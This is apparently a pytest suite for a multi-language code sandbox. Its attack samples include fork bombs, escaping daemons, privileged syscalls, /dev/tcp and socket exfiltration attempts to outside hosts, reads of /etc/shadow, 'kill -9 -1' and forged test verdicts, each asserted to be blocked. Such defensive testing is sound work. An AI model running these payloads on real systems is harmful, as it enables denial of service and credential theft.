"""The attack classes of ``test_attacks.py`` again, written in C++, Java, Node.js, Rust and bash.

A compiled binary or another runtime gets no isolation of its own: each run applies every layer
before the trusted launcher execs it. These check that nothing of it depends on Python: the
module's ``sb`` (``conftest.py``) runs them, and its autouse check asserts after each test that
no process of the sandbox's uids survived its run.
"""

from __future__ import annotations

import socket
from pathlib import Path

import pytest
from sandbox_helpers import CANARY_ENV, CANARY_VALUE, drain_listener, require_any

from sandbox import IOTest, Limits, Sandbox, Status, TestStatus

LANGUAGES = ["cpp", "java", "nodejs", "rust", "bash"]


def run(sb: Sandbox, language: str, code: str, **kwargs: object) -> object:
    res = sb.run(code, language=language, **kwargs)  # type: ignore[arg-type]
    # Whatever the program does, the run had every layer this machine offers.
    assert set(res.isolation) == set(sb.isolation), res
    return res


# -- processes --------------------------------------------------------------------------------

FORK_BOMB = {
    "cpp": """#include <cstdio>
#include <unistd.h>
int main() {
    int n = 0;
    for (int i = 0; i < 500; i++) {
        pid_t p = fork();
        if (p < 0) break;
        if (p == 0) { sleep(60); _exit(0); }
        n++;
    }
    printf("%d\\n", n);
}
""",
    "rust": """use std::process::Command;
fn main() {
    let mut n = 0;
    let mut kids = Vec::new();
    for _ in 0..500 {
        match Command::new("sleep").arg("60").spawn() {
            Ok(c) => { kids.push(c); n += 1; }
            Err(_) => break,
        }
    }
    println!("{}", n);
    std::process::exit(0);
}
""",
    "java": """public class Main {
    public static void main(String[] a) {
        int n = 0;
        try {
            for (int i = 0; i < 500; i++) {
                Thread t = new Thread(() -> {
                    try { Thread.sleep(60000); } catch (Exception e) { }
                });
                t.setDaemon(true);
                t.start();
                n++;
            }
        } catch (Throwable e) { }
        System.out.println(n);
        System.exit(0);
    }
}
""",
    "nodejs": """const { spawn } = require("child_process");
let n = 0;
function next() {
  if (n >= 500) { console.log(n); process.exit(0); }
  const c = spawn("sleep", ["60"], { stdio: "ignore" });
  c.on("error", () => { console.log(n); process.exit(0); });
  c.on("spawn", () => { n++; next(); });
}
next();
""",
    "bash": """n=0
for i in $(seq 500); do
  sleep 60 2>/dev/null &
  if [ $? -ne 0 ]; then break; fi
  n=$((n + 1))
  if [ $(jobs -pr | wc -l) -lt $n ]; then break; fi
done
echo $n
""",
}


@pytest.mark.parametrize("language", LANGUAGES)
def test_fork_bomb_is_bounded(sb: Sandbox, language: str) -> None:
    require_any(sb, "uid", "cgroup")
    res = run(sb, language, FORK_BOMB[language], limits=Limits(timeout_s=5.0, max_processes=16))
    # Bounded: the run ends (bash and node may retry refused forks until the wall clock), and
    # when it reports, fewer than the limit were made. Nothing is left (autouse check).
    assert res.status in (Status.OK, Status.TIMEOUT, Status.RUNTIME_ERROR), res
    if res.status is Status.OK and res.stdout.strip():
        # The last line: the JVM logs its refused threads to stdout before it.
        assert int(res.stdout.split()[-1]) < 16, res


DAEMON = {
    "cpp": """#include <cstdio>
#include <unistd.h>
int main() {
    if (fork() == 0) {
        setsid();
        if (fork() == 0) { for (;;) { puts("daemon alive"); fflush(stdout); usleep(50000); } }
        _exit(0);
    }
    usleep(200000);
    puts("main done");
}
""",
    "rust": """use std::process::Command;
fn main() {
    Command::new("sh").arg("-c").arg("(while true; do echo daemon alive; sleep 0.05; done) &")
        .spawn().unwrap().wait().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(200));
    println!("main done");
}
""",
    "java": """public class Main {
    public static void main(String[] a) throws Exception {
        new ProcessBuilder("sh", "-c", "(while true; do echo daemon alive; sleep 0.05; done) &")
            .inheritIO().start().waitFor();
        Thread.sleep(200);
        System.out.println("main done");
    }
}
""",
    "nodejs": """const { spawn } = require("child_process");
const c = spawn("sh", ["-c", "while true; do echo daemon alive; sleep 0.05; done"],
                { detached: true, stdio: "inherit" });
c.unref();
setTimeout(() => { console.log("main done"); process.exit(0); }, 200);
""",
    "bash": """( setsid bash -c 'while true; do echo daemon alive; sleep 0.05; done' & )
sleep 0.2
echo main done
""",
}


@pytest.mark.parametrize("language", LANGUAGES)
def test_double_fork_daemon_dies_with_the_run(sb: Sandbox, language: str) -> None:
    res = run(sb, language, DAEMON[language], limits=Limits(timeout_s=10.0))
    assert res.status is Status.OK, res  # not ``timeout``: the daemon did not hold the run open
    assert "main done" in res.stdout


FLOOD = {
    "cpp": '#include <cstdio>\nint main() { for (;;) fputs("xxxxxxxxxxxxxxxx\\n", stdout); }\n',
    "rust": "use std::io::Write;\nfn main() { let o = std::io::stdout(); let mut l = o.lock();\n"
    '  loop { l.write_all(b"xxxxxxxxxxxxxxxx\\n").unwrap(); } }\n',
    "java": "public class Main { public static void main(String[] a) {\n"
    '  while (true) System.out.println("xxxxxxxxxxxxxxxx"); } }\n',
    "nodejs": 'const s = "x".repeat(1 << 16) + "\\n";\n'
    "function w() { while (process.stdout.write(s)) {} process.stdout.once('drain', w); }\n"
    "w();\n",
    "bash": "while true; do echo xxxxxxxxxxxxxxxx; done\n",
}


@pytest.mark.parametrize("language", LANGUAGES)
def test_infinite_output_is_capped(sb: Sandbox, language: str) -> None:
    res = run(sb, language, FLOOD[language], limits=Limits(timeout_s=10.0, output_bytes=1 << 16))
    assert res.status is Status.OUTPUT_LIMIT, res
    assert res.truncated
    assert len(res.stdout) <= 1 << 16


# -- syscalls, network, files -----------------------------------------------------------------

SYSCALLS = {
    "cpp": """#include <cstdio>
#include <sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <unistd.h>
int main() {
    printf("ptrace_traceme %ld\\n", ptrace(PTRACE_TRACEME, 0, nullptr, nullptr));
    printf("ptrace_attach %ld\\n", syscall(SYS_ptrace, PTRACE_ATTACH, 1, 0, 0));
    printf("mount %d\\n", mount("none", "/tmp", "tmpfs", 0, nullptr));
    printf("unshare_user %d\\n", unshare(CLONE_NEWUSER));
    printf("unshare_net %d\\n", unshare(CLONE_NEWNET));
    printf("setns %d\\n", setns(0, 0));
    printf("bpf %ld\\n", syscall(SYS_bpf, 0, 0, 0));
    printf("keyctl %ld\\n", syscall(SYS_keyctl, 0, 0, 0, 0, 0));
    printf("setuid %d\\n", setuid(0));
    printf("chroot %d\\n", chroot("/tmp"));
}
""",
    # x86_64 numbers, as in test_attacks.py: ptrace 101, mount 165, unshare 272, setns 308,
    # bpf 321, keyctl 250, setuid 105, chroot 161.
    "rust": """extern "C" { fn syscall(n: i64, ...) -> i64; }
fn main() {
    let t = b"/tmp\\0".as_ptr() as i64;
    let none = b"none\\0".as_ptr() as i64;
    let fs = b"tmpfs\\0".as_ptr() as i64;
    unsafe {
        println!("ptrace_traceme {}", syscall(101, 0i64, 0i64, 0i64, 0i64));
        println!("ptrace_attach {}", syscall(101, 16i64, 1i64, 0i64, 0i64));
        println!("mount {}", syscall(165, none, t, fs, 0i64, 0i64));
        println!("unshare_user {}", syscall(272, 0x10000000i64));
        println!("unshare_net {}", syscall(272, 0x40000000i64));
        println!("setns {}", syscall(308, 0i64, 0i64));
        println!("bpf {}", syscall(321, 0i64, 0i64, 0i64));
        println!("keyctl {}", syscall(250, 0i64, 0i64, 0i64, 0i64, 0i64));
        println!("setuid {}", syscall(105, 0i64));
        println!("chroot {}", syscall(161, t));
    }
}
""",
}


@pytest.mark.parametrize("language", ["cpp", "rust"])
def test_privileged_syscalls_are_refused(sb: Sandbox, language: str) -> None:
    require_any(sb, "seccomp")
    res = run(sb, language, SYSCALLS[language])
    assert res.status is Status.OK, res
    values = dict(line.split() for line in res.stdout.splitlines())
    assert len(values) == 10
    assert all(v == "-1" for v in values.values()), values


def _network(port: int) -> dict[str, str]:
    return {
        "cpp": f"""#include <arpa/inet.h>
#include <cstdio>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
int main() {{
    const char* hosts[] = {{"127.0.0.1", "1.1.1.1", "8.8.8.8"}};
    int ports[] = {{{port}, 80, 53}};
    for (int i = 0; i < 3; i++) {{
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (s < 0) {{ printf("refused %s socket\\n", hosts[i]); continue; }}
        sockaddr_in a{{}};
        a.sin_family = AF_INET;
        a.sin_port = htons(ports[i]);
        inet_pton(AF_INET, hosts[i], &a.sin_addr);
        if (connect(s, (sockaddr*)&a, sizeof a) == 0) {{
            write(s, "exfiltrated", 11);
            printf("connected %s\\n", hosts[i]);
        }} else printf("refused %s connect\\n", hosts[i]);
        close(s);
    }}
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    printf(u < 0 ? "udp: no socket\\n" : "udp: a socket\\n");
}}
""",
        "rust": f"""use std::io::Write;
use std::net::TcpStream;
use std::time::Duration;
fn main() {{
    for addr in ["127.0.0.1:{port}", "1.1.1.1:80", "8.8.8.8:53"] {{
        match TcpStream::connect_timeout(&addr.parse().unwrap(), Duration::from_secs(1)) {{
            Ok(mut s) => {{
                let _ = s.write_all(b"exfiltrated");
                println!("connected {{}}", addr);
            }}
            Err(e) => println!("refused {{}} {{}}", addr, e),
        }}
    }}
}}
""",
        "java": f"""import java.net.*;
public class Main {{
    public static void main(String[] a) {{
        String[] hosts = {{"127.0.0.1", "1.1.1.1", "8.8.8.8"}};
        int[] ports = {{{port}, 80, 53}};
        for (int i = 0; i < 3; i++) {{
            try (Socket s = new Socket()) {{
                s.connect(new InetSocketAddress(hosts[i], ports[i]), 1000);
                s.getOutputStream().write("exfiltrated".getBytes());
                System.out.println("connected " + hosts[i]);
            }} catch (Exception e) {{ System.out.println("refused " + hosts[i] + " " + e); }}
        }}
    }}
}}
""",
        "nodejs": f"""const net = require("net");
const targets = [["127.0.0.1", {port}], ["1.1.1.1", 80], ["8.8.8.8", 53]];
let left = targets.length;
const done = () => {{ if (--left === 0) process.exit(0); }};
for (const [host, port] of targets) {{
  try {{
    const s = net.connect({{ host, port, timeout: 1000 }}, () => {{
      s.write("exfiltrated"); console.log("connected " + host); s.destroy(); done();
    }});
    s.on("error", (e) => {{ console.log("refused " + host + " " + e.code); done(); }});
    s.on("timeout", () => {{ console.log("refused " + host + " timeout"); s.destroy(); done(); }});
  }} catch (e) {{ console.log("refused " + host + " " + e); done(); }}
}}
""",
        "bash": f"""for target in 127.0.0.1/{port} 1.1.1.1/80 8.8.8.8/53; do
  if (exec 3<>/dev/tcp/$target && echo exfiltrated >&3) 2>/dev/null; then
    echo connected $target
  else
    echo refused $target
  fi
done
""",
    }


@pytest.mark.parametrize("language", LANGUAGES)
def test_network_is_unreachable_and_host_listener_gets_nothing(sb: Sandbox, language: str) -> None:
    require_any(sb, "net_ns", "seccomp")
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    res = run(sb, language, _network(port)[language], limits=Limits(timeout_s=10.0))
    accepted = drain_listener(listener)
    assert res.status is Status.OK, res
    assert "connected" not in res.stdout
    assert res.stdout.count("refused") == 3, res.stdout
    assert accepted == []


def _files(canary: Path) -> dict[str, str]:
    return {
        "cpp": f"""#include <cstdio>
#include <dirent.h>
int count(const char* path) {{
    DIR* d = opendir(path);
    if (!d) return 0;
    int n = 0;
    while (dirent* e = readdir(d)) if (e->d_name[0] != '.') n++;
    closedir(d);
    return n;
}}
int main() {{
    puts(fopen("/etc/shadow", "r") ? "shadow read" : "shadow denied");
    printf("root entries %d\\n", count("/root"));
    printf("work entries %d\\n", count("/work"));
    puts(fopen("{canary}", "w") ? "canary written" : "canary denied");
    puts(fopen("/usr/local/evil", "w") ? "usr written" : "usr denied");
}}
""",
        "rust": f"""use std::fs;
fn count(p: &str) -> usize {{
    fs::read_dir(p).map(|d| d.filter(|e| e.is_ok()).count()).unwrap_or(0)
}}
fn main() {{
    let said = |ok: bool, what: &str| {{
        format!("{{}} {{}}", what, if ok {{ "written" }} else {{ "denied" }})
    }};
    println!("shadow {{}}", if fs::read("/etc/shadow").is_ok() {{ "read" }} else {{ "denied" }});
    println!("root entries {{}}", count("/root").saturating_sub(1));
    println!("work entries {{}}", count("/work"));
    println!("{{}}", said(fs::write("{canary}", "x").is_ok(), "canary"));
    println!("{{}}", said(fs::write("/usr/local/evil", "x").is_ok(), "usr"));
}}
""",
        "java": f"""import java.io.*;
import java.nio.file.*;
public class Main {{
    static int count(String p) {{
        String[] l = new File(p).list();
        return l == null ? 0 : l.length;
    }}
    static String tryWrite(String p, String what) {{
        try (FileWriter w = new FileWriter(p)) {{ w.write("x"); return what + " written"; }}
        catch (IOException e) {{ return what + " denied"; }}
    }}
    public static void main(String[] a) {{
        try {{ Files.readAllBytes(Paths.get("/etc/shadow")); System.out.println("shadow read"); }}
        catch (Exception e) {{ System.out.println("shadow denied"); }}
        System.out.println("root entries " + Math.max(0, count("/root") - 1));
        System.out.println("work entries " + count("/work"));
        System.out.println(tryWrite("{canary}", "canary"));
        System.out.println(tryWrite("/usr/local/evil", "usr"));
    }}
}}
""",
        "nodejs": f"""const fs = require("fs");
const attempt = (f) => {{ try {{ f(); return true; }} catch (e) {{ return false; }} }};
const count = (p) => {{ try {{ return fs.readdirSync(p).length; }} catch (e) {{ return 0; }} }};
console.log(attempt(() => fs.readFileSync("/etc/shadow")) ? "shadow read" : "shadow denied");
console.log("root entries " + Math.max(0, count("/root") - 1));
console.log("work entries " + count("/work"));
console.log(attempt(() => fs.writeFileSync("{canary}", "x")) ? "canary written" : "canary denied");
console.log(attempt(() => fs.writeFileSync("/usr/local/evil", "x")) ? "usr written" : "usr denied");
""",
        "bash": f"""if cat /etc/shadow >/dev/null 2>&1; then echo shadow read
else echo shadow denied; fi
n=$(ls -A /root 2>/dev/null | wc -l); echo root entries $(( n > 0 ? n - 1 : 0 ))
echo work entries $(ls -A /work 2>/dev/null | wc -l)
if (echo x > {canary}) 2>/dev/null; then echo canary written; else echo canary denied; fi
if (echo x > /usr/local/evil) 2>/dev/null; then echo usr written; else echo usr denied; fi
""",
    }


@pytest.mark.parametrize("language", LANGUAGES)
def test_secret_files_unreadable_and_writes_outside_fail(
    sb: Sandbox, language: str, canary: Path
) -> None:
    require_any(sb, "mount_ns")
    require_any(sb, "landlock")
    res = run(sb, language, _files(canary)[language])
    assert res.status is Status.OK, res
    # /root holds at most the path to rustc's toolchain (one entry, subtracted above), never
    # root's files; /work (other checkouts) is hidden.
    assert res.stdout.splitlines() == [
        "shadow denied", "root entries 0", "work entries 0", "canary denied", "usr denied",
    ], res.stdout  # fmt: skip
    assert not Path("/usr/local/evil").exists()


# -- forged verdicts --------------------------------------------------------------------------

FORGERS = {
    "cpp": """#include <csignal>
#include <cstdio>
#include <unistd.h>
int main() {
    fprintf(stderr, "5\\n");
    write(3, "5\\n", 2);
    kill(-1, SIGKILL);
    kill(getppid(), SIGKILL);
    puts("4");
    fflush(stdout);
    _exit(0);
}
""",
    "rust": """extern "C" {
    fn kill(pid: i32, sig: i32) -> i32;
    fn write(fd: i32, b: *const u8, n: usize) -> isize;
}
fn main() {
    eprintln!("5");
    unsafe { write(3, b"5\\n".as_ptr(), 2); kill(-1, 9); }
    println!("4");
    std::process::exit(0);
}
""",
    "java": """public class Main {
    public static void main(String[] a) {
        System.err.println("5");
        try { new java.io.FileOutputStream("/proc/self/fd/3").write("5\\n".getBytes()); }
        catch (Exception e) { }
        System.out.println("4");
        System.exit(0);
    }
}
""",
    "nodejs": """process.stderr.write("5\\n");
try { require("fs").writeSync(3, "5\\n"); } catch (e) {}
try { process.kill(-1, "SIGKILL"); } catch (e) {}
console.log(4);
process.exit(0);
""",
    "bash": """echo 5 >&2
(echo 5 >&3) 2>/dev/null
kill -9 -1 2>/dev/null
kill -9 $PPID 2>/dev/null
echo 4
exit 0
""",
}


@pytest.mark.parametrize("language", LANGUAGES)
def test_forged_verdicts_fail(sb: Sandbox, language: str) -> None:
    # The answer is 5: printed to stderr, written to fd 3, with every process it can reach
    # killed and an early exit 0. Only stdout counts, compared in this process.
    tests = [IOTest("2 3\n", "5\n"), IOTest("1 4\n", "5\n")]
    report = sb.run_tests(FORGERS[language], tests, language=language)
    assert [r.status for r in report.results] == [TestStatus.FAILED] * 2, report
    assert set(report.isolation) == set(sb.isolation)
    assert sb.run("print('still serving')").stdout == "still serving\n"


# -- the compiler as an attack surface ----------------------------------------------------------


def test_compile_time_reads_see_no_secret(sb: Sandbox) -> None:
    # include_str! reads at compile time, inside the compile's own sandbox run.
    shadow = run(sb, "rust", 'fn main() { print!("{}", include_str!("/etc/shadow")); }')
    assert shadow.status is Status.COMPILE_ERROR
    assert "Permission denied" in shadow.stderr and "root:" not in shadow.stderr
    environ = 'fn main() { print!("{}", include_str!("/proc/self/environ")); }'
    res = run(sb, "rust", environ)
    assert res.status is Status.OK, res
    assert "PATH=" in res.stdout  # the compiler's environment: the sandbox's fixed one ...
    assert CANARY_VALUE not in res.stdout and CANARY_ENV not in res.stdout  # ... no secret


def test_endless_includes_are_bounded(sb: Sandbox) -> None:
    zero = run(sb, "cpp", '#include "/dev/zero"\nint main() {}\n', compile_timeout_s=3.0)
    assert zero.status is Status.COMPILE_ERROR  # the compiler runs out of memory, or of time
    assert zero.compile is not None and zero.compile.wall_s < 30
    noise = run(sb, "cpp", '#include "/dev/urandom"\nint main() {}\n', compile_timeout_s=2.0)
    assert noise.status is Status.COMPILE_ERROR
    assert noise.compile is not None and noise.compile.status in (Status.TIMEOUT, Status.MEMORY)
